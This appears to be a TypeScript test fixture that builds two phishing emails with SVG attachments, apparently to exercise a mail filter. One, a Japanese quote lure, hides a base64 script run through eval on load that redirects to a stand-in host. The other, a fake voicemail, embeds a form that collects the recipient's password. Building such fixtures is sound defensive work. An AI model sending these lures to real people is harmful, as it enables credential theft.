import { buildMail, type Draft } from '../build-mail.ts';
import { letter, note } from '../letter.ts';

const unproven = { spf: 'none', dkim: '', dmarc: 'none' };
const spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const onwards = Buffer.from("window.location.href='https://sign-doc.example.net/o/';").toString('base64');

/** Pictures and pages that act when a browser opens them. */
const drafts: Draft[] = [
  {
    name: '見積書を装った SVG が外部へ移動する',
    receiver: 'postfix',
    from: '営業部 高橋 <takahashi@mail-out.example>',
    auth: unproven,
    subject: '見積書送付の件',
    html: note(['お世話になっております。見積書をお送りしますので、添付ファイルを開いてご確認ください。']),
    attachments: [
      {
        filename: '見積書.svg',
        type: 'image/svg+xml',
        content: `<svg ${spaces} onload="eval(atob('${onwards}'))"><rect width="1" height="1"/></svg>`,
      },
    ],
  },
  {
    name: 'voicemail whose picture holds a form',
    receiver: 'gmail',
    from: 'Voice Gateway <vm@carrier-relay.example>',
    to: 'jane@example.com',
    auth: unproven,
    subject: 'New voice message (00:43)',
    html: letter(['You have a new voice message. Open the attachment to listen.'], { lang: 'en' }),
    attachments: [
      {
        filename: 'VM-0043.svg',
        type: 'image/svg+xml',
        content: `<svg ${spaces} width="400" height="300"><foreignObject width="400" height="300"><body xmlns="http://www.w3.org/1999/xhtml"><form action="https://vm-play.example.net/p" method="post"><input name="e" value="jane@example.com"/><input type="password" name="p"/></form></body></foreignObject></svg>`,
      },
    ],
  },
];

export const attachedPages = drafts.map(buildMail);
